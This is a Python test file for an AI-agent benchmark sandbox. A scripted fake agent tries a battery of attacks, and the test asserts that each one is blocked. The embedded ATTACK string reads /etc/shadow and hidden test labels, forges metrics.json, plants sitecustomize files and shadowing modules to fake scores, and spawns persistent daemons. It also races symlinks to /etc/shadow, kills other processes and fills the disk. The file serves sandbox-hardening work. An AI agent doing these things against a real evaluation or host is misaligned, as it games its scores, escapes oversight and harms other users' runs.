"""The adversarial suite of issue 13: a local OpenAI-protocol server plays a
malicious agent from a script against every bundled workspace task (nomad_py
on a synthetic prepared dataset), beside an honest sim episode running at the
same time. Each attack must be blocked, the attacker's scores must be the
honest ones of its predictions, and nothing outside the run folder changes.

Attacks: read the hidden labels by every path (absolute, relative, /proc,
'..', the run folder's hidden folders), forge metrics.json, plant
usercustomize/sitecustomize and shadowing pandas.py, numpy.py and re.py
(modules the evaluations import), start setsid and
double-forked daemons, race symbolic links against the snapshots, kill and
write other episodes' processes and files, connect to a TCP listener the test
owns on 127.0.0.1, fill the disk, and send a 200k-deep tool call.
test_sandbox_kill9.py (its own CTest entry, run at the same time) kills -9
ctxbench under this agent's daemons."""

import glob
import json
import mmap
import os
import socket
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import harness
from test_workspace_tasks import write_synthetic_nomad

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
# Ends in "-": e2e_sandbox_kill9 runs beside this test with its own pid, and
# "...-12-" is not within "...-123-" (without the dash, 12 would match 123).
MARKER = "ctxbench-attack-daemon-%d-" % os.getpid()
FORGED = 0.999

# Runs inside the agent's sandbox as the agent's train.py: every attack, and
# no training of its own. Its predictions are the starter's: the ones the
# harness's baseline run wrote into this workspace, which the task's hidden
# evaluation scores, so the honest score is known (the baseline). debug_py's
# starter crashes, so there the fixed starter's training is appended.
ATTACK = r'''
import glob, json, os, signal, socket, subprocess, sys, time
sys.path = [p for p in sys.path if p not in ("", "/workspace")]  # our own pandas.py is bait
log = []
def attempt(name, fn):
    try:
        got = fn()
        log.append(name + ": LEAKED " + repr(got)[:80])
    except Exception as e:
        log.append(name + ": blocked (" + type(e).__name__ + ")")
def read(p):
    with open(p) as f:
        return f.read(200)
for p in TARGETS + ["/proc/1/root" + t for t in TARGETS] + [
        "../" + os.path.basename(os.getcwd()) + ".hidden/test_labels.csv",
        "/proc/self/cwd/../../hidden/test_labels.csv", "/etc/shadow", "/root/.bashrc"]:
    attempt("read " + p, lambda p=p: read(p))
for pattern in [OUT + "/*/workspaces/*.hidden/*", OUT + "/*/traces/*", OUT + "/*/results.db",
                OUT + "/*/workspaces/*/train.py", "../*.hidden/*", "/proc/*/root" + OUT + "/*/*"]:
    attempt("glob " + pattern, lambda pattern=pattern: [read(m) for m in glob.glob(pattern)] or 1/0)
for p in [OUTSIDE, OUT + "/pwned.txt", "/tmp/../" + os.path.basename(OUTSIDE)]:
    def write(p=p):
        with open(p, "w") as f:
            f.write("PWNED")
    attempt("write " + p, write)
def other_workspaces():
    found = glob.glob(OUT + "/*/workspaces/*/params.json")
    for p in found:
        with open(p, "w") as f:
            f.write("PWNED")
    return found or 1/0
attempt("write other episodes", other_workspaces)
def net():
    s = socket.create_connection(("127.0.0.1", PORT), timeout=2)
    s.sendall(b"LEAK")
    return "connected"
attempt("connect 127.0.0.1", net)
# Planted Python start-up files and shadowing modules for the evaluation
# (eval.py imports re and json, nomad_py's numpy; pandas for an odd file).
forge = "import json\nprint(json.dumps({'valid_metric': 1.0, 'test_metric': 1.0 if 'acc' in 'METRIC' else 0.0}))\nraise SystemExit(0)\n"
for d in [".local/lib/python3.11/site-packages", "/tmp/home/.local/lib/python3.11/site-packages", "."]:
    os.makedirs(d, exist_ok=True)
    for name in ["usercustomize.py", "sitecustomize.py"]:
        with open(os.path.join(d, name), "w") as f:
            f.write(forge)
for name in ["pandas.py", "numpy.py", "re.py"]:
    with open(name, "w") as f:
        f.write(forge)
with open(METRICS, "w") as f:
    json.dump({"METRIC": FORGED}, f)
# Daemons that outlive the command, rewrite predictions and race links.
subprocess.Popen(["setsid", "bash", "-c", "exec -a MARKER sleep 300"],
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        sys.argv[0] = "MARKER"
        end = time.time() + 20
        while time.time() < end:
            for name in ["race.txt"]:
                try:
                    os.unlink(name)
                    os.symlink("/etc/shadow", name)
                    time.sleep(0.001)
                    os.unlink(name)
                    with open(name, "w") as f:
                        f.write("prediction\n")
                except OSError:
                    pass
    os._exit(0)
with open("race.txt", "w") as f:
    f.write("plain\n")
# The command ends mid-race: wait (with a deadline) until the racer has
# swapped in its link a few times.
links, end = 0, time.time() + 10
while links < 3 and time.time() < end:
    links += os.path.islink("race.txt")
    time.sleep(0.0005)
# Kill ctxbench and other episodes' commands: none is visible here.
def kill_others():
    killed = []
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            with open("/proc/%s/cmdline" % pid, "rb") as f:
                cmd = f.read()
        except OSError:
            continue
        if b"ctxbench" in cmd or (b"train.py" in cmd and int(pid) != os.getpid()):
            os.kill(int(pid), signal.SIGKILL)
            killed.append(cmd)
    return killed or 1/0
attempt("kill other episodes", kill_others)
with open("attack.log", "w") as f:
    f.write("\n".join(log) + "\n")
print("\n".join(log))
'''

# 5 x 60 MB, written 1 MB at a time: one 60 MB buffer per file cost ~4x the
# CPU (fresh pages faulted in for each) for the same bytes on disk.
FILL = r'''
block = b"x" * (1 << 20)
for i in range(5):
    with open("fill-%d.bin" % i, "wb") as f:
        for _ in range(60):
            f.write(block)
'''

CLEAN = r'''
import sys
sys.path = [p for p in sys.path if p not in ("", "/workspace")]  # glob imports re: not ours
import glob, os
for name in glob.glob("fill-*.bin") + glob.glob("*customize.py") + ["pandas.py", "numpy.py", "re.py"]:
    os.unlink(name)
'''


SLEEPER = r'''
import os, subprocess, time
subprocess.Popen(["setsid", "bash", "-c", "exec -a MARKER sleep 300"],
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    os.execvp("bash", ["bash", "-c", "exec -a MARKER-2 sleep 300"])
time.sleep(300)
'''.replace("MARKER", MARKER)


def starter(task):
    with open(os.path.join(ROOT, "tasks", task, "starter", "train.py")) as f:
        text = f.read()
    return text.replace('"montly_charges"', '"monthly_charges"')  # debug_py: the fix


class Attacker:
    """The scripted malicious agent: one list of tool calls per task."""

    def __init__(self, out, outside, port, sleeper=False):
        self.out, self.outside, self.port = out, outside, port
        self.sleeper = sleeper
        self.requests = 0

    def script(self, task, metric):
        if self.sleeper:  # a run that starts daemons and waits: ctxbench gets killed
            return [("write_file", {"path": "train.py", "content": SLEEPER}), ("run", {})]
        if task == "toy_tabular_ws":  # the run is `ctxbench train`: only files to attack
            return [
                ("write_file", {"path": "metrics.json", "content": json.dumps({metric: FORGED})}),
                ("write_file", {"path": ".local/lib/python3.11/site-packages/usercustomize.py",
                                "content": "raise SystemExit(0)\n"}),
                ("run", {}),
                ("read_file", {"path": "../" + "x.hidden/test_labels.csv"}),
                ("read_file", {"path": "/etc/shadow"}),
                ("deep", None),  # not kept as a turn: repeated until the final answer
            ]
        targets = [os.path.join(ROOT, "tasks", task, "hidden", n)
                   for n in ("valid_labels.csv", "test_labels.csv", "eval.py")]
        attack = ATTACK
        for name, value in [("TARGETS", repr(targets)), ("OUTSIDE", repr(self.outside)),
                            ("OUT", repr(self.out)), ("PORT", str(self.port)),
                            ("FORGED", repr(FORGED)), ("METRICS", repr("metrics.json"))]:
            attack = attack.replace(name, value)
        attack = attack.replace("METRIC", metric).replace("MARKER", MARKER)
        honest = starter(task) if task == "debug_py" else ""  # see ATTACK
        # Two runs (the attacks, then the disk filling); the clean-up is
        # written when no run is left, so the final evaluation runs it, in a
        # workspace over its quota, and scores the predictions left in place.
        return [
            ("write_file", {"path": "train.py", "content": attack + honest}),
            ("run", {}),
            ("write_file", {"path": "train.py", "content": FILL}),
            ("run", {}),
            ("write_file", {"path": "train.py", "content": CLEAN}),
        ]

    def reply(self, body):
        self.requests += 1
        messages = body["messages"]
        text = "\n".join(m.get("content") or "" for m in messages if isinstance(m.get("content"), str))
        task = text.split("Task: ", 1)[1].split(" ", 1)[0]
        metric = text.split("Metric: ", 1)[1].split(" ", 1)[0]
        done = sum(1 for m in messages if m["role"] == "assistant")
        script = self.script(task, metric)
        last = messages[-1].get("content") or ""
        deep = script[-1][0] == "deep"
        if (deep and "Give your final answer now" in last) or (not deep and done >= len(script)):
            name, args = "final_answer", {"metric": FORGED, "summary": "all attacks done"}
        else:
            name, args = script[min(done, len(script) - 1)]
        if name == "read_file":
            args = dict(args, start_line=None, end_line=None)
        if name == "deep":  # a tool call nested 200k deep: an invalid action, not a crash
            arguments = "[" * 200000 + "]" * 200000
            name = "write_file"
        else:
            arguments = json.dumps(args)
        call = {"id": "call_%d" % done, "type": "function",
                "function": {"name": name, "arguments": arguments}}
        return {"id": "chatcmpl-attack", "object": "chat.completion",
                "choices": [{"index": 0, "finish_reason": "tool_calls",
                             "message": {"role": "assistant", "content": None,
                                         "tool_calls": [call]}}],
                "usage": {"prompt_tokens": 100, "completion_tokens": 10}}


def serve(attacker):
    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, *args):
            pass

        def do_POST(self):
            body = json.loads(self.rfile.read(int(self.headers.get("Content-Length", "0"))))
            data = json.dumps(attacker.reply(body)).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def do_GET(self):  # the run's preflight: GET /v1/models, as a real server answers
            data = json.dumps({"object": "list", "data": [{"id": "attacker", "object": "model"}]})
            self.send_response(200 if self.path.endswith("/models") else 404)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data.encode())

    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    httpd.daemon_threads = True
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    return httpd


def host_processes_named(marker):
    found = []
    for pid in os.listdir("/proc"):
        try:
            with open("/proc/%s/cmdline" % pid, "rb") as f:
                if marker.encode() in f.read():
                    found.append(pid)
        except OSError:
            pass
    return found


def read_trace(path):
    with open(path) as f:
        return [json.loads(line) for line in f if line.strip()]


class SandboxAttackTest(harness.E2ETest):
    def setUp(self):
        super().setUp()
        self.listener = socket.socket()
        self.listener.bind(("127.0.0.1", 0))
        self.listener.listen(8)
        self.listener.settimeout(0.1)
        self.connections = 0
        self.stop = threading.Event()

        def accept():
            while not self.stop.is_set():
                try:
                    self.listener.accept()[0].close()
                    self.connections += 1
                except OSError:
                    pass

        threading.Thread(target=accept, daemon=True).start()

    def tearDown(self):
        self.stop.set()
        self.listener.close()
        super().tearDown()

    def test_every_attack_is_blocked_and_scores_stay_honest(self):
        out = os.path.join(self.workdir, "runs")
        outside = os.path.join(self.workdir, "outside.txt")
        attacker = Attacker(out, outside, self.listener.getsockname()[1])
        httpd = serve(attacker)
        data_dir = os.path.join(self.workdir, "data")
        write_synthetic_nomad(data_dir)
        before = sorted(os.listdir(self.workdir))
        tasks = ["tabular_py", "debug_py", "nomad_py", "toy_tabular_ws"]
        if os.environ.get("CTXBENCH_SANITIZED"):
            # toy_tabular_ws runs `ctxbench train` under RLIMIT_AS, where an
            # ASan binary cannot reserve its shadow memory and aborts.
            tasks.remove("toy_tabular_ws")
        config = {
            "name": "attacks", "tasks": tasks, "data_dir": data_dir,
            "models": [{"name": "attacker", "kind": "openai", "model": "attacker",
                        "base_url": "http://127.0.0.1:%d/v1" % httpd.server_address[1],
                        "api_key_env": "E2E_ATTACK_KEY"},
                       {"name": "sim", "kind": "sim"}],
            "context_policies": [{"name": "full", "type": "full"}],
            "reasoning_modes": ["agentic"], "seeds": [1], "num_steps": 2,
            "steps_per_iteration": 4, "parallel": 2, "out_dir": out,
            "workspace": {"snapshots": True},
        }
        started = time.time()
        os.environ["E2E_ATTACK_KEY"] = "sk-attack-test"
        try:
            r = harness.run_ctxbench(self.workdir, "run", "--config", "config.json",
                                     config=config, timeout=540)
        finally:
            httpd.shutdown()
        self.assertEqual(r.code, 0, r.stderr[-3000:])
        (run_dir,) = r.run_dirs()
        with open(os.path.join(run_dir, "summary.json")) as f:
            episodes = json.load(f)["episodes"]
        self.assertEqual(len(episodes), 2 * len(tasks))

        # Processes die with their command: no daemon outlived it, or ctxbench.
        self.assertEqual(host_processes_named(MARKER), [])
        # No network: the listener never saw a connection.
        self.assertEqual(self.connections, 0)
        # Nothing outside the run folder was touched.
        self.assertFalse(os.path.exists(outside))
        self.assertFalse(os.path.exists(os.path.join(out, "pwned.txt")))

        for ep in episodes:
            o = ep["outcome"]
            name = ep["task"] + "/" + ep["model"]
            self.assertEqual(o["status"], "complete", name)
            ws = os.path.join(run_dir, "workspaces", ep["episode_id"])
            events = read_trace(os.path.join(run_dir, "traces", ep["episode_id"] + ".jsonl"))
            runs = [e["data"] for e in events if e.get("event") == "op.experiment"]
            (fin,) = [e["data"] for e in events if e.get("event") == "op.final_evaluation"]
            if ep["model"] == "sim":
                # The honest neighbour: nobody wrote into its workspace.
                for path in glob.glob(os.path.join(ws, "**"), recursive=True):
                    if os.path.isfile(path):
                        with open(path, "rb") as f:
                            self.assertNotIn(b"PWNED", f.read(), path)
                # It answered right after its last run, unchanged: that run's
                # results are the final ones, not run again.
                self.assertEqual(fin.get("reused_run"), runs[-1]["experiment"], name)
                self.assertEqual(fin["valid_metric"], runs[-1]["valid_metric"], name)
                continue
            # The harness scored the attacker's honest predictions: the forged
            # metrics.json is only a claim, and the final score is the baseline's.
            self.assertIsNotNone(o["final_valid_metric"], "%s: no final score: %s; stop %s; runs %s" % (
                name, o.get("final_error"), o.get("stop_rule"),
                [(d["experiment"], d.get("ok"), (d.get("error") or "")[:160]) for d in runs]))
            self.assertAlmostEqual(o["final_valid_metric"], o["baseline_metric"], places=3,
                                   msg=name)
            self.assertNotEqual(o["final_valid_metric"], FORGED, name)
            self.assertEqual(o["claimed_metric"], FORGED, name)
            if ep["task"] != "debug_py":  # its starter fails: no baseline test score
                self.assertAlmostEqual(o["test_metric"], o["baseline_test_metric"], places=6,
                                       msg=name)
            first = next(d for d in runs if d["experiment"] == 1)
            if ep["task"] == "toy_tabular_ws":
                # ctxbench train wrote metrics.json itself: the claim equals the score.
                self.assertEqual(first["reported_metric"], first["valid_metric"], name)
                # The 200k-deep call and the two escaping reads were refused.
                self.assertGreaterEqual(o["invalid_actions"], 1, name)
                seen = "\n".join(json.dumps(e) for e in events)
                self.assertIn("'..' is refused", seen, name)
                self.assertIn("is absolute; refused", seen, name)
                continue
            # The attacker wrote its clean-up after its last run: run again.
            self.assertNotIn("reused_run", fin, name)
            self.assertTrue(first["ok"], first["error"])
            self.assertEqual(first["reported_metric"], FORGED, name)
            self.assertAlmostEqual(first["valid_metric"], o["baseline_metric"], places=3)
            fill = next(d for d in runs if d["experiment"] == 2)
            self.assertIn("disk quota exceeded", fill["error"])
            # The final evaluation started over the quota and ran the clean-up.
            self.assertEqual(glob.glob(os.path.join(ws, "fill-*.bin")), [], name)
            with open(os.path.join(ws, "attack.log")) as f:
                log = f.read()
            self.assertNotIn("LEAKED", log, log)
            self.assertGreater(log.count("blocked"), 10, log)
            # Snapshots hold regular files only, and never a root-only file
            # (searched in place: the disk-filling run's snapshot holds ~280 MB,
            # which read() copied for ~12 s per task on a loaded machine).
            for path in glob.glob(os.path.join(ws + ".snapshots", "**"), recursive=True):
                self.assertFalse(os.path.islink(path), path)
                if os.path.isfile(path) and os.path.getsize(path) > 0:
                    with open(path, "rb") as f, \
                            mmap.mmap(f.fileno(), 0, access=mmap.ACCESS_READ) as data:
                        self.assertEqual(data.find(b"root:"), -1, path)
        self.assertGreater(attacker.requests, 0)
        # Only ctxbench's own files appeared beside the run folder (.cache is
        # this test's $XDG_CACHE_HOME, where the response cache lives).
        new = set(os.listdir(self.workdir)) - set(before)
        self.assertLessEqual(new, {"runs", "config.json", ".cache"})
        print("attack suite: %.0f s" % (time.time() - started), file=sys.stderr)


if __name__ == "__main__":
    harness.main()
